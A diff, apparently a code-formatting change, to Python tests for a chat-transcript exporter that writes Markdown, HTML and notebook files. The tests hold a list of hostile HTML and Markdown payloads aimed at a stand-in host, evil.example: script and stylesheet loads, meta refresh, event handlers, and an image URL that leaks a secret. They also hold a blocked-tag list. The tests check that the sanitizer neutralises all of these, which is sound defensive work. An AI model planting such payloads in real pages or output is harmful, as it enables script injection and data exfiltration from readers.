@@ -29,7 +29,7 @@ TEXTS = [
     "What is in this photo?\nAnswer in one line, please.",
     "A red square on nothing at all.",
     "Translate: \u00bfD\u00f3nde est\u00e1 la estaci\u00f3n? \u2014 and is 3 < 4 && 5 > 2?",
-    "\u8fd9\u662f\u4e00\u4e2a\u7ea2\u8272\u7684\u6b63\u65b9\u5f62\u3002 It is red; the answer is 42 & no more.",
+    "\u8fd9\u662f\u4e00\u4e2a\u7ea2\u8272\u7684\u6b63\u65b9\u5f62\u3002 It is red; 42 & no more.",
 ]
 
 
@@ -37,8 +37,14 @@ def _turns() -> list[StoredTurn]:
     part = {"type": "image_base64", "image_base64": base64.b64encode(PHOTO).decode()}
     return [
         StoredTurn("user", TEXTS[0], media=(part,), thumbnails=(THUMB,)),
-        StoredTurn("assistant", TEXTS[1], reasoning="Uniform colour.", finish_reason="stop", model="M",
-                   usage={"prompt_tokens": 265, "completion_tokens": 7, "total_tokens": 272}),
+        StoredTurn(
+            "assistant",
+            TEXTS[1],
+            reasoning="Uniform colour.",
+            finish_reason="stop",
+            model="M",
+            usage={"prompt_tokens": 265, "completion_tokens": 7, "total_tokens": 272},
+        ),
         StoredTurn("user", TEXTS[2]),
         StoredTurn("assistant", TEXTS[3], finish_reason="stopped", error="StreamError: cut (status 500)"),
     ]
@@ -118,7 +124,7 @@ def test_ipynb_has_one_cell_per_turn_with_attached_images(tmp_path):
     assert len(cells) == len(TEXTS) and {c.cell_type for c in cells} == {"markdown"}
     for cell, turn_text in zip(cells, TEXTS):
         assert turn_text in cell.source
-    (name, bundle), = cells[0].attachments.items()
+    ((name, bundle),) = cells[0].attachments.items()
     assert f"](attachment:{name})" in cells[0].source
     assert base64.b64decode(bundle["image/jpeg"]) == PHOTO
     assert cells[1].metadata["sensenova"]["usage"]["total_tokens"] == 272
@@ -126,8 +132,10 @@ def test_ipynb_has_one_cell_per_turn_with_attached_images(tmp_path):
 
 
 def test_wire_messages_export_too():
-    messages = [{"role": "user", "content": [{"type": "text", "text": "hello there"}]},
-                {"role": "assistant", "content": [{"type": "text", "text": "general kenobi"}]}]
+    messages = [
+        {"role": "user", "content": [{"type": "text", "text": "hello there"}]},
+        {"role": "assistant", "content": [{"type": "text", "text": "general kenobi"}]},
+    ]
     assert [_words(t) for t in _parse(export(messages, "html")).texts] == ["hello there", "general kenobi"]
     with pytest.raises(ValueError, match=r"\.md, \.html or \.ipynb"):
         export(messages, "trip.docx")
@@ -151,7 +159,7 @@ MALICIOUS = [
     "<link rel=stylesheet href=https://evil.example/s.css>",
     '<meta http-equiv="refresh" content="0;url=https://evil.example/r">',
     '<img srcset="https://evil.example/a.png 1x"><video poster=https://evil.example/p.png></video>',
-    "```html\n<script src=\"https://evil.example/code.js\"></script>\n```",
+    '```html\n<script src="https://evil.example/code.js"></script>\n```',
     "`<img src=https://evil.example/span.png>` in code",
     "$$\\href{https://evil.example/m}{x}$$ and <https://evil.example/autolink>",
     "| a | b |\n|---|---|\n| ![t](https://evil.example/cell.png) | <b onmouseover=x>b</b> |",
@@ -166,7 +174,10 @@ def _assert_inert(markup: str) -> None:
     tags = _parse(markup).tags
     assert sum(tag == "style" for tag, _ in tags) <= 1  # at most the page's own style sheet, in <head>
     for tag, attrs in tags:
-        assert tag not in {"script", "iframe", "object", "embed", "link", "svg", "video", "form", "base"}, (tag, attrs)
+        assert tag not in {"script", "iframe", "object", "embed", "link", "svg", "video", "form", "base"}, (
+            tag,
+            attrs,
+        )
         assert tag != "meta" or "refresh" not in attrs.get("http-equiv", "").lower()
         for name, value in attrs.items():
             assert not name.startswith("on"), (tag, name)
@@ -180,8 +191,10 @@ def _assert_inert(markup: str) -> None:
 
 @pytest.mark.parametrize("text", MALICIOUS)
 def test_model_output_in_html_runs_nothing_and_fetches_nothing(text):
-    turns = [StoredTurn("user", "tell me", thumbnails=(THUMB,)),
-             StoredTurn("assistant", text, reasoning=text)]
+    turns = [
+        StoredTurn("user", "tell me", thumbnails=(THUMB,)),
+        StoredTurn("assistant", text, reasoning=text),
+    ]
     _assert_inert(export(turns, "html"))
     _assert_inert(transcript_html(turns))
 
@@ -189,26 +202,38 @@ def test_model_output_in_html_runs_nothing_and_fetches_nothing(text):
 def test_a_remote_image_becomes_a_link():
     page = export([StoredTurn("assistant", MALICIOUS[3])], "html")
     anchors = [attrs for tag, attrs in _parse(page).tags if tag == "a"]
-    assert anchors == [{"href": "https://evil.example/leak.png?d=SECRET", "rel": "nofollow noopener noreferrer"}]
-    assert "[leak](https://evil.example/leak.png?d=SECRET)" in export([StoredTurn("assistant", MALICIOUS[3])], "md")
+    assert anchors == [
+        {"href": "https://evil.example/leak.png?d=SECRET", "rel": "nofollow noopener noreferrer"}
+    ]
+    assert "[leak](https://evil.example/leak.png?d=SECRET)" in export(
+        [StoredTurn("assistant", MALICIOUS[3])], "md"
+    )
 
 
 def test_sanitizer_keeps_ordinary_markup():
-    kept = '<p>a <strong>b</strong> <code class="language-py">c</code></p><td style="text-align: right">1</td>'
+    kept = (
+        '<p>a <strong>b</strong> <code class="language-py">c</code></p><td style="text-align: right">1</td>'
+    )
     assert sanitize_html(kept) == kept
     assert sanitize_html('<p onclick="x()">t</p><script>bad()</script>') == "<p>t</p>"
 
 
 def test_markdown_defusing_leaves_code_and_inline_pictures():
-    text = "see ![x](https://e.test/a.png)\n`![code](https://e.test/c)`\n```\n![fenced](https://e.test/f)\n```\n"
+    text = (
+        "see ![x](https://e.test/a.png)\n`![code](https://e.test/c)`\n```\n![fenced](https://e.test/f)\n```\n"
+    )
     out = defuse_remote_images(text + "![ok](data:image/png;base64,AAAA) <img src=https://e.test/i>")
-    assert out == (text.replace("see ![x]", "see [x]")
-                   + "![ok](data:image/png;base64,AAAA) &lt;img src=https://e.test/i>")
+    assert out == (
+        text.replace("see ![x]", "see [x]")
+        + "![ok](data:image/png;base64,AAAA) &lt;img src=https://e.test/i>"
+    )
 
 
 def test_transcript_is_small_and_shows_thumbnails():
     big = {"type": "image_base64", "image_base64": base64.b64encode(_jpeg("blue", 600)).decode()}
-    turns = _turns() + [StoredTurn("user", "and this", media=(big,), thumbnails=(b"\x89PNG" + b"0" * 200_000,))]
+    turns = _turns() + [
+        StoredTurn("user", "and this", media=(big,), thumbnails=(b"\x89PNG" + b"0" * 200_000,))
+    ]
     markup = transcript_html(turns, title="trip", note="Run the cell again to continue.")
     parsed = _parse(markup)
     assert [_words(t) for t in parsed.texts] == [_words(t) for t in TEXTS] + ["and this"]
